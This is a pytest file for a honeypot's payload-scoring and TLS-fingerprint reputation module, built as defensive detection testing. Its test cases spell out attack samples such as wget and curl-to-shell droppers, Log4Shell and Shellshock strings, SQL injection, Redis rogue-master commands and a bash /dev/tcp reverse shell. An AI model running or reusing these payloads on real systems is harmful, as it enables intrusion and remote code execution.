"""Payload scoring and fingerprint reputation: shipped files, explanations, and bad files."""

from __future__ import annotations

import dataclasses
import os
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from honeymesh.detection.scoring import (
    NOTHING_SCORED,
    PayloadRules,
    PayloadScore,
    Reputation,
    RulesError,
    _literal_index,
    required_literals,
    shannon_entropy,
)

RULES = PayloadRules.shipped()
REPUTATION = Reputation.shipped()


def test_entropy_of_text_and_of_noise() -> None:
    assert shannon_entropy(b"") == 0.0
    assert shannon_entropy(b"aaaa") == 0.0
    assert shannon_entropy(bytes(range(256))) == 8.0
    assert 3.5 < shannon_entropy(b"GET /index.html HTTP/1.1\r\nHost: example.net\r\n") < 5


@pytest.mark.parametrize(
    ("payload", "rule"),
    [
        (b"cd /tmp; wget http://203.0.113.9/x86; chmod 777 x86; ./x86", "download-url"),
        (b"curl -s http://x.test/a.sh | sh", "pipe-to-shell"),
        (b"/bin/busybox MIRAI", "busybox"),
        (b"${jndi:ldap://203.0.113.9:1389/a}", "log4shell"),
        (b"${${lower:j}ndi:ldap://x}", "log4shell"),
        (b"() { :; }; /bin/bash -c id", "shellshock"),
        (b"GET /cgi-bin/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "path-traversal"),
        (b"id=1 UNION ALL SELECT username,password FROM users", "sql-union"),
        (b"user=admin' or '1'='1", "sql-tautology"),
        (b"config set dir /root/.ssh", "redis-persistence"),
        (b"slaveof 203.0.113.5 8886", "redis-rogue-master"),
        (b"*/5 * * * * curl http://x | bash", "cron-schedule"),
        (b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "reverse-shell"),
        (b"./xmrig -o stratum+tcp://pool.test:3333", "cryptominer"),
    ],
)
def test_shipped_rules_catch_what_attackers_send(payload: bytes, rule: str) -> None:
    result = RULES.score(payload)
    assert rule in result.matched
    assert result.score > 0 and len(result.reasons) == len(result.matched)


def test_scores_add_up_are_capped_and_say_why() -> None:
    dropper = b"cd /tmp; wget http://203.0.113.9/b; chmod +x b; ./b"
    result = RULES.score(dropper)
    assert result.matched == ("download-url", "chmod-exec", "world-writable-dir")
    assert result.score == 40 + 25 + 15
    assert result.reasons[0] == "downloads a file from the internet (dropper) (download-url, +40)"
    everything = b"${jndi:x} () { :; }; union select 1 /dev/tcp/1.2.3.4/1"
    assert RULES.score(everything).score == 100


def test_the_one_pass_prefilter_agrees_with_the_rules() -> None:
    assert RULES.any_rule is not None
    for payload in (b"uname -a", b"${jndi:x}", b"x" * 300, b"cd /tmp && wget http://a.b/c"):
        assert bool(RULES.any_rule.search(payload)) == bool(
            [r for r in RULES.rules if r.pattern.search(payload)]
        )


def test_benign_traffic_scores_nothing() -> None:
    for benign in (b"GET / HTTP/1.1\r\nHost: example.net\r\n", b"uname -a", b"ls -la", b"root"):
        assert RULES.score(benign).score == 0


def test_high_entropy_payload_is_flagged_as_packed() -> None:
    noise = os.urandom(4096)
    result = RULES.score(noise)
    assert "entropy" in result.matched and result.entropy is not None and result.entropy > 7.5
    assert RULES.score(b"A" * 4096).matched == ()


def test_reputation_prefers_ja4_and_falls_back_to_ja3() -> None:
    icedid = "t13d201100_2b729b4bf6f3_9e7b989ebec8"
    hit = REPUTATION.lookup(icedid, "6734f37431670b3ab4292b8f60f29984")
    assert hit is not None and hit.kind == "ja4" and hit.label == "IcedID"
    legacy = REPUTATION.lookup(
        "t13d9999h2_000000000000_000000000000", "6734f37431670b3ab4292b8f60f29984"
    )
    assert legacy is not None and legacy.kind == "ja3" and legacy.label == "Trickbot"
    good = REPUTATION.lookup("t13d1516h2_8daaf6152771_02713d6af862", None)
    assert good is not None and good.verdict == "good"
    assert REPUTATION.lookup("t13d0000h2_000000000000_000000000000", "0" * 32) is None


@pytest.mark.parametrize(
    ("text", "where", "problem"),
    [
        (
            "[[rule]]\nid='x'\npattern='('\nweight=1\ndescription='d'",
            "rule 'x'",
            "not a valid regular",
        ),
        (
            "[[rule]]\nid='x'\npattern='a'\nweight=101\ndescription='d'",
            "rule 'x'",
            "weight must be",
        ),
        ("[[rule]]\nid='x'\npattern='a*'\nweight=1\ndescription='d'", "rule 'x'", "empty payload"),
        (
            "[[rule]]\nid='x'\npattern='a'\nweight=1\ndescription='d'\n[[rule]]\nid='x'\n"
            "pattern='b'\nweight=1\ndescription='d'",
            "rule 'x'",
            "used twice",
        ),
        (
            "[[rule]]\nid='Bad Id'\npattern='a'\nweight=1\ndescription='d'",
            "rule 'Bad Id'",
            "id must",
        ),
        (
            "[[rule]]\nid='x'\npattern='a'\nweight=1\ndescription='d'\ncolour=1",
            "rule[0]",
            "unknown key",
        ),
        ("[entropy]\nmin_bytes=1\nthreshold=9\nweight=1", "entropy", "threshold must"),
        ("[[rule]\n", "", "not valid TOML"),
    ],
)
def test_bad_rules_files_are_refused_with_file_rule_and_problem(
    tmp_path: Path, text: str, where: str, problem: str
) -> None:
    path = tmp_path / "rules.toml"
    path.write_text(text)
    with pytest.raises(RulesError) as info:
        PayloadRules.load(path)
    assert info.value.source == str(path) and info.value.where == where
    assert problem in info.value.problem


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("[[fingerprint]]\nja4='nope'\nverdict='bad'\nscore=1\nlabel='x'", "is not a JA4"),
        ("[[fingerprint]]\nja3='ab'\nverdict='bad'\nscore=1\nlabel='x'", "is not a JA3"),
        ("[[fingerprint]]\nverdict='bad'\nscore=1\nlabel='x'", "exactly one of ja4 or ja3"),
        ("[[fingerprint]]\nja3='" + "a" * 32 + "'\nverdict='evil'\nlabel='x'", "'bad' or 'good'"),
    ],
)
def test_bad_reputation_files_are_refused(tmp_path: Path, text: str, problem: str) -> None:
    path = tmp_path / "fp.toml"
    path.write_text(text)
    with pytest.raises(RulesError, match=problem):
        Reputation.load(path)


def test_missing_file_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(RulesError, match="no such file"):
        PayloadRules.load(tmp_path / "absent.toml")


@given(st.binary(max_size=20_000))
def test_any_payload_gets_a_bounded_score(data: bytes) -> None:
    result = RULES.score(data)
    assert 0 <= result.score <= 100
    if len(data) < 256:
        assert result.entropy is None
    else:
        assert result.entropy is not None and 0 <= result.entropy <= 8


# The literal prefilter: a rule whose needed literals are all absent is not searched. It must
# never change a score: checked against searching every rule, on payloads made of the rules'
# own literals (in any case, cut, joined, percent-encoded) and noise, for the shipped rules and
# for patterns built to trip it (empty branches, optional parts, look-arounds, inline flags).
TRICKY = PayloadRules.parse(
    """
[[rule]]
id = "empty-branch"
pattern = "ab(?:cd|)ef"
weight = 10
description = "x"
[[rule]]
id = "optional"
pattern = "(?:wget)?\\\\s*zz(?:top)*"
weight = 10
description = "x"
[[rule]]
id = "lookahead"
pattern = "(?=kill)k|(?!x)yy"
weight = 10
description = "x"
[[rule]]
id = "inline-flags"
pattern = "(?-i:CaSe)|b[aA]r+"
weight = 10
description = "x"
[[rule]]
id = "nested"
pattern = "(?:(?:sh|bash)\\\\b|kill(?:all)?){1,3}-9"
weight = 10
description = "x"
[[rule]]
id = "not-ascii"
pattern = "\\\\xc9t\\\\xe9|\u00c9z"
weight = 10
description = "x"
""",
    "tricky.toml",
)


def _scored_rule_by_rule(rules: PayloadRules, data: bytes) -> PayloadScore:
    """The score with every rule searched: no literal index, no one-pass alternation."""
    return dataclasses.replace(rules, literal_finder=None, any_rule=None).score(data)


_PIECES = sorted(
    {lit for r in (*RULES.rules, *TRICKY.rules) for lit in r.needs or ()}
    | {b"ab", b"ef", b"cd", b"CaSe", b"case", b"bAR", b"-9", b" ", b"/", b"%2e", b"+", b"\n"}
    | {b"x", b"zz", b"\xc9T\xe9", b"\xc9", "\u00c9Z".encode(), b"%C9t%E9"}
)


@given(
    st.lists(
        st.one_of(
            st.sampled_from(_PIECES).flatmap(
                lambda s: st.sampled_from([s, s.upper(), s.title(), s[1:], s[:-1]])
            ),
            st.text(max_size=4).map(lambda s: s.encode("utf-8", "surrogatepass")),
            st.binary(max_size=3),
        ),
        max_size=12,
    )
)
def test_the_literal_prefilter_never_changes_a_score(parts: list[bytes]) -> None:
    data = b"".join(parts)
    for rules in (RULES, TRICKY):
        assert rules.score(data) == _scored_rule_by_rule(rules, data)


def test_a_pattern_whose_case_follows_the_locale_needs_no_literal() -> None:
    """``(?L)`` folds case through the C locale, which ``bytes.lower`` does not know: such a
    rule is always searched, and a part scoped by it gives no literal."""
    assert required_literals(re.compile(rb"abc(\xc9xyz)", re.IGNORECASE)) == frozenset({b"\xc9xyz"})
    assert required_literals(re.compile(rb"abc(?L:\xc9xyz)", re.IGNORECASE)) == frozenset({b"abc"})
    assert required_literals(re.compile(rb"(?L)abc\xc9xyz", re.IGNORECASE)) is None


@pytest.mark.parametrize("size", [0, 1, 255, 256, 257])
def test_a_payload_no_rule_can_match_scores_as_searching_every_rule(size: int) -> None:
    """Below the entropy rule's 256 bytes, a payload the literal index lets no rule through
    gets the one shared empty score; at 256 and above, its entropy too. Either way, the same
    whole result as searching every rule."""
    data = (b"qz7" * 100)[:size]
    assert RULES.score(data) == _scored_rule_by_rule(RULES, data)
    assert (RULES.score(data) is NOTHING_SCORED) == (size < 256)


def test_the_literal_prefilter_skips_what_cannot_match() -> None:
    request = (
        b"POST /index.html\nHost: 127.0.0.1\nConnection: close\n"
        b"Content-Type: application/x-www-form-urlencoded\n\nusername=admin1&password=secret1"
    )
    assert RULES.literal_finder is not None
    found = {lit for _, lit in RULES.literal_finder.iter(request.lower().decode("latin-1"))}
    assert found == {"cat", "nc", "or"}  # applicATion, urlenCoded, passwORd
    let_through = {RULES.rules[i].id for lit in found for i in RULES.rules_for[lit]}
    assert "download-url" not in let_through and len(let_through) < len(RULES.rules) // 3
    assert RULES.score(request).matched == ()


@given(
    st.lists(st.binary(min_size=1, max_size=6).map(bytes.lower), min_size=1, max_size=24),
    st.binary(max_size=60),
)
def test_the_literal_pass_finds_every_literal_a_payload_holds(
    literals: list[bytes], noise: bytes
) -> None:
    """The automaton over a rule set's literals (any bytes, as latin-1 text) reports exactly
    the literals present in the lower-cased payload, however they overlap or nest; payloads
    mix the literals, their prefixes and noise, in any case."""
    needs = frozenset(literals)
    finder, rules_for = _literal_index((dataclasses.replace(TRICKY.rules[0], needs=needs),))
    assert finder is not None and all(rules_for[lit.decode("latin-1")] == {0} for lit in needs)
    data = noise.join(lit + lit[:-1] for lit in sorted(needs)) + noise
    for payload in (data, data.upper()):
        lowered = payload.lower()
        found = {lit for _, lit in finder.iter(lowered.decode("latin-1"))}
        assert found == {lit.decode("latin-1") for lit in needs if lit in lowered}
